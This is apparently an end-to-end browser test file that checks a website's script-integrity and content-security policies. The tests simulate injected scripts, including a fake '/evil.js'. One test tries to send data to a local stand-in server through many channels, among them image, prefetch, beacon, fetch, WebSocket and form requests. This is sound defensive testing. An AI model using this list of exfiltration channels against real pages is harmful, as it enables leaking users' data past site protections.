import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expectHydrated } from '../support/public-pages.ts';
import { expect, type Site, test } from '../support/site-test.ts';

interface LoggedFault {
  readonly kind: string;
  readonly remote: string;
  readonly version: string;
  readonly message: string;
  readonly path: string;
}

const readFaults = ({ host }: Site): LoggedFault[] =>
  host
    .output()
    .split('\n')
    .filter((line) => line.includes('"msg":"fault"'))
    .map((line) => JSON.parse(line));

/** Simulates an injection by adding markup to the HTML of every page. The page keeps its policies. */
const inject = (page: Page, toMarkup: (html: string) => string) =>
  page.route('**/*', async (route) => {
    if (!route.request().isNavigationRequest()) return route.fallback();
    const response = await route.fetch();
    const html = await response.text();
    return route.fulfill({ response, body: html.replace('</body>', `${toMarkup(html)}</body>`) });
  });

test.describe('Page policies', () => {
  test("REL-06 a copy of the host's inline script does not load scripts named in injected markup", { tag: '@whole' }, async ({ site, page }) => {
    const script = 'document.documentElement.dataset.evil = "";';
    const integrity = `sha256-${createHash('sha256').update(script).digest('base64')}`;
    await page.route('**/evil.js', (route) => route.fulfill({ body: script, contentType: 'text/javascript' }));
    await inject(page, (html) => {
      const starter = /<script[^>]*>([^<]*\["pointerdown","keydown","click","online"\][^<]*)<\/script>/.exec(html)?.[1] ?? '';
      expect(starter).not.toBe('');
      return `<script data-src="/evil.js" data-integrity="${integrity}">${starter}</script>`;
    });

    await page.goto(site.url);
    await expectHydrated(page);

    await expect(page.locator('html[data-evil]')).not.toBeAttached();
  });

  test('REL-06 every script that a page inserts has a hash and complies with the policies', { tag: '@whole' }, async ({ ownSite, page, consoleErrors }) => {
    for (const path of ['/', '/news', '/gallery', '/volunteer', '/login']) {
      await page.goto(`${ownSite.url}${path}`);
      await expectHydrated(page);
    }
    await page.goto(ownSite.url);
    for (const name of ['News', 'Gallery']) {
      await page.getByRole('contentinfo').getByRole('link', { name, exact: true }).click();
      await expect(page).toHaveTitle(new RegExp(name));
    }

    expect(await page.evaluate(() => [...document.scripts].filter(({ src, integrity }) => src !== '' && !integrity.startsWith('sha256-')).length)).toBe(0);
    expect(consoleErrors).toEqual([]);
    expect(readFaults(ownSite)).toEqual([]);
  });

  test('REL-06 a script without a hash is not loaded if the browser supports Integrity-Policy', async ({ site, page }) => {
    await page.goto(`${site.url}/gallery`);
    await expectHydrated(page);
    const result = await page.evaluate(() => {
      // TypeScript has no types for Trusted Types.
      const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } } };
      const [firstScript] = [...document.scripts].filter(({ integrity }) => integrity !== '');
      const script = document.createElement('script');
      script.src = trustedTypes.createPolicy('start', { createScriptURL: (url: string) => url }).createScriptURL(`${firstScript?.src}?again`);
      return new Promise<string>((resolve) => {
        script.onload = () => resolve('loaded');
        script.onerror = () => resolve('blocked');
        document.head.append(script);
      });
    });

    expect(result).toBe('blocked');
  });

  test("SEC-10 a script cannot send data to another site through the page's requests", async ({ site, browser }) => {
    const requests: string[] = [];
    const otherServer = createServer(({ url = '' }, response) => {
      requests.push(url);
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((resolve) => otherServer.listen(0, '127.0.0.1', resolve));
    try {
      const origin = `http://127.0.0.1:${(otherServer.address() as AddressInfo).port}`;
      const tryAllAttacks = async (bypassCSP: boolean): Promise<Page> => {
        // Another profile: a browser that ignores the policy.
        const page = await browser.newPage({ bypassCSP });
        await page.goto(`${site.url}/gallery`);
        await expectHydrated(page);
        await page.evaluate(async (origin) => {
          const add = (name: string, attributes: Readonly<Record<string, string>>) => {
            const element = document.createElement(name);
            for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
            document.body.append(element);
          };
          for (const rel of ['prefetch', 'preload', 'icon', 'stylesheet', 'modulepreload', 'prerender', 'manifest'])
            add('link', { rel, as: 'image', href: `${origin}/${rel}` });
          add('img', { src: `${origin}/img` });
          add('div', { style: `background: url(${origin}/background); height: 9px` });
          add('iframe', { src: `${origin}/frame` });
          add('video', { src: `${origin}/video`, poster: `${origin}/poster` });
          navigator.sendBeacon(`${origin}/beacon`, 'x');
          await fetch(`${origin}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
          for (const Connection of [WebSocket, EventSource]) {
            try {
              new Connection(`${origin.replace('http', Connection === WebSocket ? 'ws' : 'http')}/connection`);
            } catch {
              // The policy blocked the call immediately.
            }
          }
          document.body.append(Object.assign(document.createElement('form'), { action: `${origin}/form`, method: 'post' }));
          document.querySelector<HTMLFormElement>('body > form:last-of-type')?.submit();
        }, origin);
        return page;
      };
      const blockedPage = await tryAllAttacks(false);
      // No event reports that a request was not sent, so wait a second.
      await blockedPage.waitForTimeout(1000);
      await blockedPage.close();
      expect(requests).toEqual([]);
      const unprotectedPage = await tryAllAttacks(true);
      const names = ['prefetch', 'preload', 'stylesheet', 'img', 'background', 'frame', 'video', 'beacon', 'fetch', 'connection', 'form'];
      await expect.poll(() => requests).toEqual(expect.arrayContaining(names.map((name) => `/${name}`)));
      await unprotectedPage.close();
    } finally {
      otherServer.close();
      otherServer.closeAllConnections();
    }
  });

  test("REL-08 a violation is reported with the page's remote and version", { tag: '@whole' }, async ({ ownSite, page }) => {
    await page.goto(`${ownSite.url}/gallery?album=secret`);
    await page.evaluate(() => {
      document.body.append(Object.assign(document.createElement('img'), { src: 'http://elsewhere.test/x.png?who=me' }));
    });
    const { remotes } = await (await fetch(`${ownSite.url}/ready`)).json();

    await expect
      .poll(() => readFaults(ownSite))
      .toMatchObject([
        {
          kind: 'policy',
          remote: 'gallery',
          version: remotes.gallery.version,
          message: 'img-src blocked http://elsewhere.test/x.png',
          path: '/gallery',
        },
      ]);
  });
});
